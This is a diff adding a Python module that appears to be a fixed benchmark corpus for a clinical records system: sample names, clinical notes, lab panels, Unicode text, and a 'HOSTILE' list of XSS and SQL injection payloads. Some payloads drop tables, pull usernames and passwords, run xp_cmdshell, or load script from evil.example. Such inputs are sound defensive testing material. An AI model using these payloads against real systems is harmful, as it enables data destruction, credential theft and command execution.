@@ -0,0 +1,92 @@
+"""
+Fixed corpus of realistic inputs for the security benchmarks.
+
+Every category is built deterministically so results are comparable between
+runs and against the machine-local baseline.
+"""
+
+NAMES = [
+    'John Smith', 'Mary Johnson', 'Robert Williams', 'Patricia Brown', 'Michael Jones',
+    'Linda Garcia', 'David Miller', 'Elizabeth Davis', 'Oluwaseun Adeyemi', 'Chinonso Okafor',
+    "Siobhan O'Brien", 'Jean-Luc Picard', 'Mary-Kate Olsen-Smith', 'Nguyen Van An', 'Li Wei',
+    'dr.house', 'nurse_jackie', 'patient01', 'j.doe@example.com', 'macbright19',
+]
+
+CLINICAL_NOTES = [
+    'Patient presents with a 3-day history of intermittent frontal headache, worse in the '
+    'mornings. No visual disturbance, no nausea. BP 128/84, HR 76, T 36.8 C. Advised '
+    'paracetamol 1 g PRN (max 4 g/day) and review in one week if no improvement.',
+    'Follow-up for type 2 diabetes. HbA1c 7.4% (previous 8.1%). Tolerating metformin '
+    '500 mg BD. Foot exam normal; monofilament sensation intact bilaterally. Continue '
+    'current regimen, dietitian referral sent, repeat HbA1c in 3 months.',
+    'Post-operative review, day 10 after laparoscopic cholecystectomy. Port sites clean '
+    'and dry, no erythema. Pain 2/10. Eating normally. Sutures removed. Return to work '
+    'in 1 week; avoid heavy lifting > 10 kg for 4 weeks.',
+    'Child brought in by mother with fever (38.9 C) and ear pain for 2 days. Left TM '
+    'bulging and erythematous. Diagnosis: acute otitis media. Amoxicillin 80 mg/kg/day '
+    'in 2 divided doses for 7 days. Safety-netting advice given.',
+    'Allergies: penicillin (rash), latex (contact dermatitis).\nCurrent medications: '
+    'lisinopril 10 mg OD, atorvastatin 20 mg ON, aspirin 75 mg OD.\nSmoker: 10 pack-years, '
+    'quit 2019. Alcohol: < 14 units/week.',
+]
+
+LAB_LINES = [
+    'Haemoglobin            13.5 g/dL        (12.0 - 15.5)',
+    'White cell count        6.2 x10^9/L     (4.0 - 11.0)',
+    'Platelets               250 x10^9/L     (150 - 400)',
+    'Sodium                  139 mmol/L      (135 - 145)',
+    'Potassium               4.1 mmol/L      (3.5 - 5.3)',
+    'Creatinine               82 umol/L      (45 - 90)',
+    'eGFR                    >90 mL/min/1.73m2',
+    'ALT                      24 U/L         (< 33)',
+    'CRP                     < 5 mg/L',
+    'TSH                    2.10 mU/L        (0.27 - 4.20)',
+]
+
+# Long lab reports: the panel repeated with a header per section
+LAB_RESULTS = [
+    '\n'.join(
+        [f'=== Panel {panel + 1}: specimen SR-{panel:04d}, collected 2025-06-{panel % 28 + 1:02d} 08:30 ==='] + LAB_LINES
+    ) * repeat
+    for panel, repeat in enumerate((1, 5, 20, 50))
+]
+
+HOSTILE = [
+    '<script>alert(document.cookie)</script>',
+    '<ScRiPt SRC=//evil.example/x.js></sCrIpT>',
+    '<img src=x onerror=alert(1)>',
+    '<svg/onload=alert(1)>',
+    '<a href="javascript:alert(1)">click me</a>',
+    '<iframe src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></iframe>',
+    '<scr<script>ipt>alert(1)</scr</script>ipt>',
+    '<body onload="window.location=\'//evil.example\'">',
+    '"><script>eval(atob("YWxlcnQoMSk="))</script>',
+    "' OR 1=1--",
+    "admin'--",
+    '1; DROP TABLE users; --',
+    "1' UNION SELECT username, password FROM users_user--",
+    "'; EXEC xp_cmdshell('dir'); --",
+    'vbscript:msgbox("x")',
+    '\x00\x01<script>\x1falert(1)</script>\x7f',
+]
+
+UNICODE = [
+    'José Álvarez-Núñez',
+    'Zoë Løvstad-Ångström',
+    'Ægir Þórsson',
+    'Мария Иванова',
+    '李小龙 (Li Xiaolong)',
+    'محمد عبد الله',
+    'श्रीमती प्रिया शर्मा',
+    'ﬁnal ﬂu vaccination ① ② ③ — ＦＵＬＬＷＩＤＴＨ ｔｅｘｔ',
+    'Patient reports pain 😣 8/10 → improved to 3/10 after analgesia 💊',
+    'Température 38,5 °C; tension artérielle 12/8; fréquence cardiaque 90/min.',
+]
+
+CORPUS = {
+    'names': NAMES,
+    'clinical_notes': CLINICAL_NOTES,
+    'lab_results': LAB_RESULTS,
+    'hostile': HOSTILE,
+    'unicode': UNICODE,
+}